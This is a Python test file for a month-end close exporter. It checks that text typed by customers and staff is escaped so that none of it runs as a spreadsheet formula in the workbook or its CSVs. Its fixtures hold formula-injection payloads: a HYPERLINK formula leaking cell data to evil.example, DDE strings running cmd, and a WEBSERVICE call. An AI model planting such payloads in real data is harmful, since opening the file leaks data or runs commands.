"""Text that customers, Sales and analysts typed never runs as a formula in the close workbook
or its CSVs; the formulas we wrote (totals) and the numbers we computed stay what they are."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
from openpyxl.utils.escape import unescape
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from activities.close.outputs import write_outputs
from activities.close.report import CloseReport
from activities.ledger.db import transaction
from activities.ledger.models import CreditNote, Customer, Invoice, InvoiceLine, Refund
from activities.spreadsheet_text import FORMULA_TRIGGERS, Formula, spreadsheet_text

Report = Callable[[sessionmaker[Session], str], CloseReport]

HOSTILE = {
    "CUS-A": '=HYPERLINK("https://evil.example/?leak="&A1,"Acme")',
    "CUS-B": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CUS-C": "+1+cmd|' /C notepad'!A0",
    "CUS-D": "-2+3",
}
#: The only formulas the close writes: column totals and the roll-forward's difference.
OURS = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)|=[A-Z]+\d+-[A-Z]+\d+")


def _poison(sessions: sessionmaker[Session]) -> None:
    with transaction(sessions) as session:
        for customer_id, name in HOSTILE.items():
            session.execute(
                update(Customer).where(Customer.id == customer_id).values(legal_name=name)
            )
        session.execute(update(Invoice).values(po_number="\t=1+1"))
        session.execute(update(InvoiceLine).values(description="\r=2+2"))
        session.execute(update(CreditNote).values(reason='=WEBSERVICE("https://x")'))
        session.execute(update(Refund).values(reason="@evil"))


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_no_cell_runs_a_formula_we_did_not_write(
    book: sessionmaker[Session], close_report: Report, tmp_path: Path
) -> None:
    _poison(book)
    files = write_outputs(close_report(book, "2026-11"), tmp_path / "2026-11")

    workbook = openpyxl.load_workbook(files[0])
    formulas, texts = 0, []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    assert OURS.fullmatch(str(cell.value)), f"{where}: {cell.value!r}"
                    formulas += 1
                elif isinstance(cell.value, str):
                    # A control character is stored as the spec's ``_x000D_`` escape, which
                    # Excel and LibreOffice read back as the character; openpyxl does not.
                    text = unescape(cell.value)
                    assert not text.startswith(FORMULA_TRIGGERS), where
                    texts.append(text)
    assert formulas > 0  # the totals are still formulas
    assert f"'{HOSTILE['CUS-A']}" in texts  # the name is there, as text
    assert "'\t=1+1" in texts and "'\r=2+2" in texts

    fields: list[str] = []
    for path in files:
        if path.suffix != ".csv":
            continue
        with path.open(newline="", encoding="utf-8") as handle:
            for record in csv.reader(handle):
                for field in record:
                    if field.startswith(FORMULA_TRIGGERS):
                        assert _is_number(field), f"{path.name}: {field!r}"
                    fields.append(field)
    assert f"'{HOSTILE['CUS-A']}" in fields and '\'=WEBSERVICE("https://x")' in fields
    assert any(field.startswith("-") and _is_number(field) for field in fields)  # numbers stay


def test_spreadsheet_text_follows_owasp() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert spreadsheet_text(f"{trigger}x") == f"'{trigger}x"
    assert spreadsheet_text("Acme GmbH") == "Acme GmbH"
    assert spreadsheet_text(Formula("=SUM(B5:B9)")) == "=SUM(B5:B9)"


def test_the_ledger_still_holds_what_was_typed(book: sessionmaker[Session]) -> None:
    """Neutralising is for the export only: the ledger keeps the text as typed."""
    _poison(book)
    with book() as session:
        name = session.scalar(select(Customer.legal_name).where(Customer.id == "CUS-A"))
    assert name == HOSTILE["CUS-A"]
